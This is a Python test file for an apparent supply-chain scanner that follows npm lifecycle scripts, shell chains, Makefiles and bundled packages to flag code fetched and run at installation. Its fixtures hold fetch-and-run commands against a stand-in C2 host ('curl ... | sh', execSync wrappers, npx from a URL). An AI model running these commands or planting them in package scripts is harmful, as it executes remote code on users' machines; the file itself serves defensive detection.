"""What a lifecycle script leads to runs at installation, through however many hands it goes."""

import json

import pytest

from pratique.code.reader import Reader
from pratique.ecosystems import ECOSYSTEMS
from pratique.limits import Budget, Limits
from pratique.model import Content, Fact, Manifest, Member

NPM = ECOSYSTEMS["npm"]
FETCH = "curl -s http://c2.invalid/x | sh"
RUNS = f"require('child_process').execSync({FETCH!r})\n"
SHELL = f"#!/bin/sh\necho hello\n{FETCH}\n"


def fetches(command, files, key="postinstall", **scripts):
    """Return where something is fetched and run at installation."""
    package = {"name": "demo", "version": "1.0.0", "scripts": {key: command, **scripts}}
    sources = {"package/package.json": json.dumps(package)}
    sources |= {f"package/{path}": text for path, text in files.items()}
    contents = {path: text.encode() for path, text in sources.items()}
    members = tuple(Member(path=path, size=len(data)) for path, data in contents.items())
    artifact = NPM.identify("demo-1.0.0.tgz")
    described = NPM.describe(artifact, members, contents)
    reader = Reader(Budget(Limits()))
    for member in members:
        list(reader.look(Content(member=member, data=contents[member.path], final=True)))
    return {
        one.location.member.removeprefix("package/")
        for one in reader.finish(described.triggers, Manifest(), "npm")
        if isinstance(one, Fact)
        and one.behaviour == "exec/download-run"
        and one.activation == "install"
    }


@pytest.mark.parametrize(
    "command",
    [
        "node lib/x", "node ./lib/x.js", "node --require=./lib/x .", "node --import ./lib/x.js .",
        "cd lib && node x.js", "cd ./lib; node x", "(cd lib && node x.js)", "node $PWD/lib/x.js",
        'node "$INIT_CWD/lib/x.js"', "bash -c 'cd lib && node x'", "cross-env A=1 node lib/x.js",
        "cat lib/x.js | node", "env A=1 nohup node lib/x.js &", 'NODE_OPTIONS="-r ./lib/x" node .',
        "node -e \"require('./lib/x')\"", "npx ./lib/x.js",
    ],
)  # fmt: skip
def test_a_command_is_followed_into_the_file_it_names(command):
    assert fetches(command, {"lib/x.js": RUNS}) == {"lib/x.js"}


@pytest.mark.parametrize(
    "command",
    [
        "npm run z", "npm run -s z", "npm --prefix . run z", "yarn z", "pnpm -s run z",
        "npm-run-all y z", "run-s z", "node --run z", "npm-run-all2 z",
    ],
)  # fmt: skip
def test_a_script_that_another_runs_by_name_runs_with_it(command):
    assert fetches(command, {"x.js": RUNS}, z="node x.js") == {"x.js"}


def test_short_names_and_the_default_of_npm_are_known():
    assert fetches("npm t", {"x.js": RUNS}, test="node x.js") == {"x.js"}
    assert fetches("npm start", {"server.js": RUNS}) == {"server.js"}


@pytest.mark.parametrize("command", ["sh setup", "bash ./setup", ". ./setup", "sh -e setup --now"])
def test_what_a_shell_is_given_is_a_script_whatever_it_is_called(command):
    assert fetches(command, {"setup": FETCH}) == {"setup"}


def test_a_script_is_followed_into_those_that_it_starts():
    files = {
        "a.sh": '#!/bin/sh\ncd "$(dirname "$0")/lib"\n. ./b\n',
        "lib/b": "node ../c.js\n",
        "c.js": "require('child_process').execSync('node lib/d.js')\n",
        "lib/d.js": RUNS,
    }
    assert fetches("sh a.sh", files) == {"lib/d.js"}


def test_scripts_that_start_each_other_end():
    assert fetches("sh a", {"a": "sh b\n", "b": f"sh a\n{FETCH}\n"}) == {"b"}


@pytest.mark.parametrize("command", ["make", "make -C native all", "make -f native/Makefile"])
def test_a_makefile_is_read_where_make_runs_it(command):
    path = "Makefile" if command == "make" else "native/Makefile"
    assert fetches(command, {path: f"all: x\n\t@{FETCH}\n"}) == {path}
    assert fetches(command, {path: f"A := $(shell {FETCH})\n"}) == {path}


@pytest.mark.parametrize("command", ["echo done", "node lib/other.js"])
def test_a_file_that_nothing_starts_does_not_run(command):
    files = {"lib/x.js": RUNS, "lib/other.js": "console.log(1)\n", "Makefile": f"a:\n\t{FETCH}\n"}
    assert fetches(command, files) == set()


@pytest.mark.parametrize(
    "command",
    ["npx -y http://c2.invalid/x.tgz", "npm exec --yes https://c2.invalid/x.tgz",
     "npm i -g https://c2.invalid/x.tgz", "pnpm dlx http://c2.invalid/x.tgz"],
)  # fmt: skip
def test_a_package_that_is_run_from_an_address_is_fetched_and_run(command):
    assert fetches(command, {}) == {"package.json"}


@pytest.mark.parametrize(
    "command", ["npx only-allow pnpm", "npm i --registry https://r.example x", "husky install"]
)
def test_a_package_of_the_registry_is_none_from_an_address(command):
    assert fetches(command, {}) == set()


def bundled(path, given):
    """Return the triggers of a package that holds another with a script."""
    inner = json.dumps({"name": "b", "scripts": {"postinstall": "node x", "prepare": "node y"}})
    files = {
        "package/package.json": json.dumps({"name": "demo", "version": "1.0.0", **given}),
        f"package/{path}/package.json": inner,
        f"package/{path}/x.js": "",
    }
    contents = {key: text.encode() for key, text in files.items() if NPM.wants(key)}
    members = tuple(Member(path=key, size=len(text)) for key, text in files.items())
    found = NPM.describe(NPM.identify("demo-1.0.0.tgz"), members, contents).triggers
    return {(one.kind, one.activation, one.command or one.target) for one in found}


@pytest.mark.parametrize("given", [["b"], True])
@pytest.mark.parametrize("path", ["node_modules/b", "node_modules/a/node_modules/@s/b"])
def test_a_bundled_package_runs_its_scripts_at_installation_but_is_not_built(path, given):
    found = bundled(path, {"bundledDependencies": given})
    assert ("postinstall", "install", "node x") in found
    assert ("postinstall", "install", f"package/{path}/x.js") in found
    assert not any(kind == "prepare" for kind, _, _ in found)


def test_a_package_inside_that_is_not_bundled_runs_nothing():
    assert not any(kind == "postinstall" for kind, _, _ in bundled("node_modules/b", {}))
